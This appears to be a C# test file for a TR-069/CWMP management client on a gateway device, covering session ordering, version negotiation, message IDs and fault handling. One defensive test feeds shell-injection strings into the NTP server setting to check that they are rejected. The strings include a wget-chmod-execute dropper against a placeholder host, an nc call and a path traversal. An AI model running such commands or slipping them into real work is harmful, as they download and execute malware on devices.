using Spa.Configuration.Parameters;
using Spa.Cwmp;
using Spa.Cwmp.Messages;
using Spa.Cwmp.Soap;
using Spa.Foundation.Time;
using Spa.Gateway.Ports;
using Spa.Marks;

namespace Spa.Device.Tests.Management;

/// <summary>Rules of the session that no single request shows: who speaks when, in which version, and which answer belongs to what.</summary>
public class SessionRuleTests
{
    private const string Ntp = "Device.Time.NTPServer1";

    [Fact]
    public void Own_requests_wait_while_the_ACS_holds_them_and_go_after_its_empty_answer()
    {
        var rig = CpeRig.Known(("CWMP_Periodic_Inform_Enable", "no"));
        rig.Ask(Log("u", delay: 10));
        rig.Peer.Hold = true;
        rig.Peer.Ask(new GetParameterValues([Ntp]), new GetParameterNames(Ntp, false));
        rig.Peer.Heard.Clear();
        rig.Run(1.Minutes);
        Assert.Equal(["Inform", "", "GetParameterValuesResponse", "GetParameterNamesResponse", "TransferComplete", ""], rig.Peer.Heard.Select(h => h.Envelope?.Body.Method ?? string.Empty));
    }

    [Fact]
    public void Without_a_hold_they_go_first()
    {
        var rig = CpeRig.Known(("CWMP_Periodic_Inform_Enable", "no"));
        rig.Ask(Log("u", delay: 10));
        rig.Peer.Ask(new GetParameterValues([Ntp]));
        rig.Peer.Heard.Clear();
        rig.Run(1.Minutes);
        Assert.Equal(["Inform", "TransferComplete", "", "GetParameterValuesResponse"], rig.Peer.Heard.Select(h => h.Envelope?.Body.Method ?? string.Empty));
    }

    [Fact]
    public void Rights_of_the_user_are_set_and_told()
    {
        var rig = CpeRig.Known();
        var setting = Catalogue.Find("Primary_NTP_Server")!;
        foreach (var (list, access) in new[] { (new[] { "Subscriber" }, UserAccess.ReadWrite), (Array.Empty<string>(), UserAccess.ReadOnly) })
        {
            Assert.IsType<SetParameterAttributesResponse>(rig.Ask(new SetParameterAttributes([new AttributeChange(Ntp, true, 1, true, list)])));
            var told = Assert.IsType<GetParameterAttributesResponse>(rig.Ask(new GetParameterAttributes([Ntp]))).Parameters.Single();
            Assert.Equal((Ntp, 1), (told.Name, told.Notification));
            Assert.Equal(list, told.Access);
            Assert.Equal(access, rig.Rig.Gateway.Settings.Access(setting));
        }

        Assert.Equal(FaultCode.InvalidParameterName, Assert.IsType<CwmpFault>(rig.Ask(new GetParameterAttributes([Ntp, "Device.Nothing"]))).Code);
        var all = Assert.IsType<GetParameterAttributesResponse>(rig.Ask(new GetParameterAttributes(["Device.Time."]))).Parameters;
        Assert.Equal(all.Select(a => a.Name), Assert.IsType<GetParameterValuesResponse>(rig.Ask(new GetParameterValues(["Device.Time."]))).Parameters.Select(p => p.Name));
    }

    // Stored at once, in force when the call is over.
    [Fact]
    public void A_value_that_waits_for_the_end_of_a_call_is_told_with_status_1()
    {
        var rig = CpeRig.Known();
        Assert.Equal(new SetParameterValuesResponse(0), rig.Set(("Device.Services.VoiceService.1.SIP.Network.1.ProxyServer", "a.example.net")));
        rig.Rig.Voice.OffHook();
        Assert.Equal(new SetParameterValuesResponse(1), rig.Set(("Device.Services.VoiceService.1.SIP.Network.1.ProxyServer", "b.example.net")));
        Assert.Equal("b.example.net", rig.Value("Device.Services.VoiceService.1.SIP.Network.1.ProxyServer"));
        Assert.Equal("a.example.net", rig.Rig.Voice.Applied.Last().Text(Catalogue.Find("Proxy_1_")!));
        Assert.Equal(new SetParameterValuesResponse(0), rig.Set(("Device.ManagementServer.PeriodicInformInterval", "3600")));
        rig.Rig.Voice.OnHook();
        rig.Run(1.Seconds);
        Assert.Equal("b.example.net", rig.Rig.Voice.Applied.Last().Text(Catalogue.Find("Proxy_1_")!));
    }

    [Fact]
    public void A_transfer_that_the_ACS_refuses_to_hear_of_is_told_in_the_log_and_not_again()
    {
        var rig = CpeRig.Known();
        rig.Peer.Instead = e => e?.Body is TransferComplete ? rig.Peer.Reply(CwmpFault.Of(FaultCode.AcsInternalError), e.Id) : null;
        rig.Ask(Log("u"));
        rig.Run(10.Minutes);
        Assert.Equal(["u"], rig.Peer.Of<TransferComplete>().Select(t => t.CommandKey));
        Assert.Equal(0, rig.Rig.Gateway.Management!.Failures);
        Assert.Empty(rig.Rig.Gateway.Management!.Events);
        Assert.Contains(rig.Rig.Host.Logs, l => l.Text.Contains("the ACS refused to hear of a transfer: 8002", StringComparison.Ordinal));
    }

    [Fact]
    public void Each_answer_has_the_id_of_its_request_and_each_own_request_one_of_its_own()
    {
        var rig = CpeRig.Known();
        rig.Ask(new GetParameterValues([Ntp]), new GetParameterValues(["Device.Nothing"]), GetRPCMethods.Instance);
        Assert.Equal(["acs1", "acs2", "acs3"], rig.Peer.Heard.Where(h => h.Envelope is { Body: not Inform }).Select(h => h.Envelope!.Id));
        rig.Ask(Log("u"));
        rig.Run(5.Seconds);
        var own = rig.Peer.Heard.Where(h => h.Envelope?.Body is Inform or TransferComplete).Select(h => h.Envelope!.Id).ToList();
        Assert.Equal(5, own.Count);
        Assert.Equal(own.Count, own.Distinct().Count());
    }

    // What an ACS gets wrong beside the point is let pass; the version that it chose is not its word then.
    [Fact]
    public void An_answer_with_a_strange_id_is_taken_but_not_its_version()
    {
        var rig = new CpeRig();
        rig.Peer.Use = CwmpVersion.V12;
        rig.Peer.Instead = e => e?.Body is Inform ? rig.Peer.Reply(new InformResponse(1), "strange") : null;
        rig.Rig.Start();
        rig.Peer.Ask(new GetParameterValues([Ntp]));
        rig.Run(2.Seconds);
        Assert.Equal(CwmpVersion.V10, rig.Peer.Heard.Single(h => h.Envelope?.Body is GetParameterValuesResponse).Envelope!.Version);
        Assert.Equal(0, rig.Rig.Gateway.Management!.Failures);
    }

    public static TheoryData<string, string> Mistaken => new()
    {
        { "Inform", "TransferCompleteResponse" }, { "Inform", "AutonomousTransferCompleteResponse" }, { "TransferComplete", "InformResponse" }, { "TransferComplete", "AutonomousTransferCompleteResponse" }, { "", "InformResponse" },
    };

    [Theory]
    [MemberData(nameof(Mistaken))]
    public void An_answer_of_another_kind_tells_nothing_and_ends_the_session(string request, string answer)
    {
        var rig = CpeRig.Known();
        CwmpMessage wrong = answer switch { "InformResponse" => new InformResponse(1), "TransferCompleteResponse" => TransferCompleteResponse.Instance, _ => AutonomousTransferCompleteResponse.Instance };
        rig.Ask(Log("u", delay: 10));
        rig.Peer.Instead = e => (e?.Body.Method ?? string.Empty) == request ? rig.Peer.Reply(wrong, e?.Id) : null;
        rig.Run(10.Seconds);
        Assert.Equal(1, rig.Rig.Gateway.Management!.Failures);
        Assert.Equal($"the ACS answered {(request.Length == 0 ? "what was not asked" : request)} with {answer}", rig.Rig.Gateway.Management!.LastFailure);
        var told = rig.Peer.Of<TransferComplete>().Count();
        rig.Peer.Instead = _ => null;
        rig.Run(1.Minutes);
        Assert.Equal(told + (request.Length == 0 ? 0 : 1), rig.Peer.Of<TransferComplete>().Count());
    }

    [Theory]
    [Attack("P7")]
    [InlineData("ntp.example.net;reboot")]
    [InlineData("$(reboot)")]
    [InlineData("`reboot`")]
    [InlineData("a|nc 10.0.0.9 80")]
    [InlineData("a&&b")]
    [InlineData("a\nb")]
    [InlineData("../../etc/passwd")]
    [InlineData(";cd /tmp;rm -rf *;wget http://l.example/1;chmod 777 1;./1")]
    public void Commands_of_a_shell_are_no_name_of_a_time_server(string text)
    {
        var rig = CpeRig.Known();
        var fault = Assert.IsType<CwmpFault>(rig.Set((Ntp, text), ("Device.DeviceInfo.ProvisioningCode", "x")));
        Assert.Equal((Ntp, FaultCode.InvalidParameterValue), fault.Parameters.Select(p => (p.Name, p.Code)).Single());
        Assert.Equal((string.Empty, string.Empty), (rig.Rig.Text("Primary_NTP_Server"), rig.Rig.Text("CWMP_Provisioning_Code")));
    }

    [Fact]
    public void Each_session_begins_in_the_oldest_version_whatever_was_spoken_before()
    {
        var rig = new CpeRig();
        rig.Peer.Use = CwmpVersion.V12;
        rig.Rig.Start();
        rig.Run(1.Seconds);
        rig.Ask(new GetParameterValues([Ntp]));
        Assert.Equal(CwmpVersion.V12, rig.Peer.Heard.Last(h => h.Envelope?.Body is GetParameterValuesResponse).Envelope!.Version);
        rig.Peer.Use = null;
        rig.Ask(new GetParameterValues([Ntp]));
        Assert.Equal(CwmpVersion.V10, rig.Peer.Heard.Last(h => h.Envelope?.Body is GetParameterValuesResponse).Envelope!.Version);
        Assert.All(rig.Peer.Heard.Where(h => h.Envelope?.Body is Inform), h =>
        {
            Assert.Equal(CwmpVersion.V10, h.Envelope!.Version);
            Assert.Equal([CwmpVersion.V10, CwmpVersion.V11, CwmpVersion.V12, CwmpVersion.V13, CwmpVersion.V14], h.Envelope.Supported);
        });
    }

    // An ACS that does not know the header by which a version is chosen: its namespace is its word.
    [Theory]
    [InlineData(CwmpVersion.V10)]
    [InlineData(CwmpVersion.V11)]
    [InlineData(CwmpVersion.V12)]
    public void Without_the_header_the_namespace_of_the_ACS_decides(CwmpVersion version)
    {
        var rig = new CpeRig();
        rig.Peer.Instead = e => e?.Body is Inform ? new AcsReply(200, Envelopes.Write(new CwmpEnvelope(new InformResponse(1)) { Id = e.Id, Version = version }), null, string.Empty) : null;
        rig.Rig.Start();
        rig.Peer.Ask(new GetParameterValues([Ntp]));
        rig.Run(2.Seconds);
        Assert.Equal(version, rig.Peer.Heard.Single(h => h.Envelope?.Body is GetParameterValuesResponse).Envelope!.Version);
    }

    private static Upload Log(string key, uint delay = 0) => new(key, FileTypes.UploadLog, "http://prov.example.net/log", string.Empty, string.Empty, delay);
}
